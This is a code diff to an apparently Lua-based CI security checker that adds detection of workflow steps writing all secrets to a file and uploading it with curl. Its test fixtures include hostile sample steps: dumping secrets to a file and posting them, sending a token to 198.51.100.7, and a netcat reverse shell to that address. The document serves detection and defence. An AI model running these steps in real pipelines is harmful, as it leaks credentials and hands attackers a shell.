@@ -30,6 +30,11 @@ local function secret_in(line, names)
   end
 end
 
+-- The file into which a line writes secrets, or nil.
+local function filled_file(line)
+  return match(line, "[$][{][{][^}]*\\bsecrets\\b[^}]*[}][}][^|]*>>?\\s*([A-Za-z0-9_./-]+)")
+end
+
 -- A secret is meant for the service whose name it bears: SLACK_TOKEN for slack.com.
 local function meant_for(secret, host)
   local name = string.gsub(lower(secret), "[^a-z0-9]", "")
@@ -78,18 +83,23 @@ connections of `nc` and `/dev/tcp`.]],
   references = { "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions" },
   check = function(e)
     local names = ci.github(e) and secret_names(e) or {}
-    local open
+    local open, file
     local failures = each(ci.lines(e), function(line)
       if is_shell(line) then
         return fail("the step " .. e.name .. " opens a raw connection: " .. string.sub(line, 1, 80), { at = "run", case = "netcat" })
       end
+      file = filled_file(line) or file
       if not ci.find(line, "\\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod)\\b") then return end
       local secret, case = secret_in(line, names), "curl"
       if secret == nil and not ci.github(e) then
         secret, case = ci.find(line, "(" .. GITLAB_SECRET .. ")"), "gitlab-curl"
       end
-      if secret == nil then return end
       local host = host_of(line)
+      if file ~= nil and string.find(line, "@" .. file, 1, true) and (host == nil or not allowed(host)) then
+        return fail("the step " .. e.name .. " sends the file " .. file .. ", to which it has written secrets, to " .. (host or "an unknown host"),
+          { at = "run", case = case })
+      end
+      if secret == nil then return end
       if host == "?" then
         open = "which host gets " .. secret .. " is not known"
       elseif host ~= nil and not allowed(host) and not meant_for(secret, host) then
@@ -113,6 +123,10 @@ jobs:
         run: |
           curl \
             -H "x: $T" http://198.51.100.7/
+      - id: fire_file
+        run: |
+          echo "${{ toJSON(secrets) }}" > .secrets
+          curl -s --data "@.secrets" "$URL"
       - id: fire_nc
         run: nc -e /bin/bash 198.51.100.7 4444
       - id: fire_tcp
